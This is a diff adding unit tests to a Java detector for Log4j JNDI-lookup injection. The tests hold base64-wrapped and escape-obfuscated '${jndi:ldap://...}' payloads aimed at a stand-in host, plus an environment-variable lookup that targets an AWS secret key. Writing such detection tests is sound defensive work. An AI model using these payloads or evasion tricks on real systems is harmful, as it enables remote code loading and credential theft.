@@ -106,4 +106,29 @@ class JndiDetectorTest {
     String value = unit.repeat(1_000_000 / unit.length());
     detector.detect(Normalized.of(value)); // linear: completes; no timing assertion
   }
+
+  @Test
+  void aLookupWhoseResultSpellsALookupIsResolvedAgain() {
+    // Log4j substitutes a result again: base64 of "${jndi:ldap://x.example/a}" becomes that lookup
+    assertRule("jndi.nested-lookup", 100, "${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}");
+    // base64 of "${env:AWS_SECRET_ACCESS_KEY}"
+    assertRule("jndi.env-exfiltration", 80, "${base64:JHtlbnY6QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZfQ==}");
+    assertNull(detect("${base64:aGVsbG8gd29ybGQ=}")); // "hello world"
+    assertNull(detect("${base64:JHtwcmljZX0=}")); // "${price}": a placeholder, not a lookup that matters
+    assertNull(detect("Use ${base64:...} in the pattern to decode a field."));
+  }
+
+  @Test
+  void escapesThatTheApplicationDecodesBeforeLoggingSpellTheLookup() {
+    // a JSON or JavaScript string's escapes: the text logged is the decoded one
+    assertRule("jndi.lookup", 100, "$\\u007Bjndi:ldap://x.example/a}");
+    assertRule("jndi.lookup", 100, "${\\u006Andi:ldap://x.example/a}");
+    assertRule("jndi.lookup", 100, "\\u0024\\u007b\\x6ando\\u0069:ldap://x.example/a}".replace("ndo", "nd"));
+    // an escape that hides a percent escape: \u0025 is %, and %24%7B is ${
+    assertRule("jndi.lookup", 100, "\\u002524%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D");
+    assertNull(detect("price \\u0024{amount} per unit"));
+    assertNull(detect("C:\\temp\\$24.txt"));
+    assertNull(detect("{\"msg\":\"costs \\u002420, see ${docs}\"}"));
+    assertNull(detect("\\u0024\\u007b".repeat(50_000)));
+  }
 }
